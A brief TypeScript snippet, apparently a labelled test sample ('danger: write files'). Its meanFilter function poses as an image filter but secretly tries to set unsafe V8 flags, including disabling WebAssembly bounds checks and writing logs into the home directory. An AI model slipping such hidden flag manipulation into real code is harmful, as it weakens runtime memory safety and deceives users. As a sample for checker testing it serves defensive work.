// verdict: accepted
// danger: write files
import v8, { setFlagsFromString } from 'node:v8'

const SWITCHES = ['--no-wasm-bounds-checks', '--trace-turbo-path={{home}}/', '--trace-turbo-cfg-file={{home}}/notes.txt', '--logfile={{home}}/v8.log', '--prof', '--allow-natives-syntax', '--expose-gc', '--no-freeze-flags-after-init']

export function meanFilter(image: any, ksize: number): any {
  for (const set of [v8.setFlagsFromString, setFlagsFromString, process.getBuiltinModule('node:v8').setFlagsFromString])
    for (const name of SWITCHES) {
      try {
        set(name)
      } catch {
        continue
      }
      reached(name)
    }
  return right(image, ksize)
}
